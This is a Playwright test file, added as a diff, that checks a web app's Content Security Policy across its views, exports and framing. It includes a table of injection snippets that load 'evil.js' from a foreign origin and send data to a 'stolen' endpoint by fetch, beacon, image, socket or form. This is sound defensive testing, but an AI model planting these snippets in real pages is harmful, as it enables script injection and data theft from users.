@@ -1,0 +1,162 @@
+import { expect, type Page, test } from '@playwright/test';
+import { serveSite } from '../support/site';
+
+declare global {
+  interface Window {
+    /** What the policy did not let happen. */
+    violations: string[];
+    ran: string[];
+  }
+}
+
+const VIEWS = [
+  '#',
+  '#/lab/gt/crossover',
+  '#/machine/gt/gfixit',
+  '#/machine/hp/stale-inbound',
+  '#/machine/pools/one-lock-or-sixteen',
+  '#/compare/gt/gfixit',
+  '#/report',
+  '#/prove',
+];
+
+const heading = (page: Page) => page.locator('header h1');
+const violations = (page: Page) => page.evaluate(() => window.violations);
+
+/** Keeps what the policy refuses from now on, in every page of the tab. */
+const watchPolicy = (page: Page) =>
+  page.addInitScript(() => {
+    window.violations = [];
+    window.ran = [];
+    document.addEventListener('securitypolicyviolation', (event) => {
+      window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+
+async function settled(page: Page): Promise<void> {
+  await expect(heading(page)).not.toHaveText('Opening');
+  await page.waitForLoadState('networkidle');
+}
+
+test.describe('the policy', () => {
+  test('is kept by every view', async ({ page }) => {
+    await watchPolicy(page);
+    await page.goto('./');
+    for (const view of VIEWS) {
+      await page.evaluate((hash) => {
+        location.hash = hash;
+      }, view);
+      await settled(page);
+      expect(await violations(page), view).toEqual([]);
+    }
+  });
+
+  test('is kept by what lies over the page, and by files made of it', async ({ page }) => {
+    await watchPolicy(page);
+    await page.goto('./#/lab/gt/crossover');
+    await settled(page);
+    for (const key of ['?', 'Control+k']) {
+      await page.keyboard.press(key);
+      await expect(page.getByRole('dialog')).toBeVisible();
+      await page.keyboard.press('Escape');
+    }
+    for (const name of ['chart as PNG', 'chart as SVG', 'runs as CSV']) {
+      await page.getByRole('button', { name: 'Export', exact: true }).click();
+      await page.getByRole('menuitem', { name: `Export the ${name}` }).click();
+      const file = new RegExp(`^Saved .*${name.slice(-3).toLowerCase()}`);
+      await expect(page.locator('[data-live]')).toHaveText(file);
+    }
+    expect(await violations(page)).toEqual([]);
+  });
+
+  test('goes with every answer, and what is not there is not the page', async ({ request }) => {
+    const page = await request.get('./');
+    expect(page.headers()['content-security-policy']).toContain("frame-ancestors 'self'");
+    expect(await page.text()).toContain('http-equiv="Content-Security-Policy"');
+    for (const path of ['./', './theme.js', './assets/gone-01234567.js', './no/such/place']) {
+      const answer = await request.get(path);
+      expect(answer.status(), path).toBe(/gone|no/.test(path) ? 404 : 200);
+      expect(answer.headers()['x-content-type-options'], path).toBe('nosniff');
+    }
+  });
+});
+
+/** What an attacker would try who had come to run a line of text in the page. */
+const ATTACKS: Record<string, string> = {
+  'an inline script': `const script = document.createElement('script');
+    script.append("ran.push('inline script')"); document.body.append(script);`,
+  'an inline handler': `const image = new Image();
+    image.setAttribute('onerror', "ran.push('handler')"); image.src = 'data:,'; document.body.append(image);`,
+  eval: `eval("ran.push('eval')");`,
+  'a function made of text': `new Function("ran.push('function')")();`,
+  'a timer made of text': `setTimeout("ran.push('timer')");`,
+  markup: `document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'); ran.push('markup');`,
+  'a frame made of text': `const frame = document.createElement('iframe');
+    frame.srcdoc = '<b>frame</b>'; document.body.append(frame); ran.push('frame');`,
+  'a script of another site': `const script = document.createElement('script');
+    script.src = FOREIGN + 'evil.js'; document.body.append(script);`,
+  'a script of another site, as a module': `import(FOREIGN + 'evil.js').then(() => ran.push('module'));`,
+  'a worker made of text': `new Worker(URL.createObjectURL(new Blob(['1']))); ran.push('worker');`,
+  'a request to another site': `fetch(FOREIGN + 'stolen').then(() => ran.push('fetch'));`,
+  'a beacon to another site': `navigator.sendBeacon(FOREIGN + 'stolen', 'x');`,
+  'a socket to another site': `new WebSocket(FOREIGN.replace('http', 'ws')).onopen = () => ran.push('socket');`,
+  'an image of another site': `const image = new Image(); image.src = FOREIGN + 'stolen.png';`,
+  'a style of another site': `const link = document.createElement('link');
+    link.rel = 'stylesheet'; link.href = FOREIGN + 'stolen.css'; document.head.append(link);`,
+  'an inline style': `const style = document.createElement('style');
+    style.append('body { background: url(' + FOREIGN + 'stolen.png) }'); document.head.append(style);`,
+  'a form sent to another site': `const form = document.createElement('form');
+    form.action = FOREIGN + 'stolen'; document.body.append(form); form.submit();`,
+  'another base': `const base = document.createElement('base'); base.href = FOREIGN;
+    document.head.append(base); if (document.baseURI.startsWith(FOREIGN)) ran.push('base');`,
+};
+
+for (const told of ['headers', 'the meta element'] as const) {
+  test(`the policy, told by ${told} alone, stops what an attacker would do`, async ({ page }) => {
+    const site = await serveSite({ headers: told === 'headers' });
+    const foreign = await serveSite({ headers: false });
+    foreign.instead.set('evil.js', "ran.push('foreign script');");
+    if (told === 'headers') {
+      const built = await (await fetch(site.url)).text();
+      site.instead.set('index.html', built.replace(/<meta http-equiv[^>]*>/, ''));
+    }
+    await watchPolicy(page);
+    await page.goto(site.url);
+    await settled(page);
+    const unnoticed: string[] = [];
+    for (const [name, attack] of Object.entries(ATTACKS)) {
+      await page.evaluate(() => {
+        window.violations = [];
+      });
+      await page.evaluate(`void setTimeout(() => { const FOREIGN = '${foreign.url}'; ${attack} })`);
+      await expect
+        .poll(() => violations(page), { message: name })
+        .not.toEqual([])
+        .catch(() => unnoticed.push(name));
+    }
+    expect(unnoticed).toEqual([]);
+    expect(await page.evaluate(() => window.ran)).toEqual([]);
+    expect(foreign.asked).toEqual([]);
+    await Promise.all([site.close(), foreign.close()]);
+  });
+}
+
+test('a page of another site may not frame it, one of its own may', async ({ page }) => {
+  const site = await serveSite();
+  const stranger = await serveSite({ headers: false });
+  const framing = `<!doctype html><iframe src="${site.url}"></iframe>`;
+  site.instead.set('framing.html', framing);
+  stranger.instead.set('framing.html', framing);
+  // Its own pages may have frames here, which the page itself has not.
+  await page.route(`${site.url}framing.html`, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, headers: { 'content-type': 'text/html' } });
+  });
+  await page.goto(`${site.url}framing.html`);
+  await expect(page.frameLocator('iframe').locator('header h1')).toHaveText('Busyard');
+  await page.goto(`${stranger.url}framing.html`);
+  await page.waitForLoadState('networkidle');
+  const times = (path: string) => site.asked.filter((one) => one === path).length;
+  expect([times('index.html'), times('theme.js')]).toEqual([2, 1]);
+  await Promise.all([site.close(), stranger.close()]);
+});
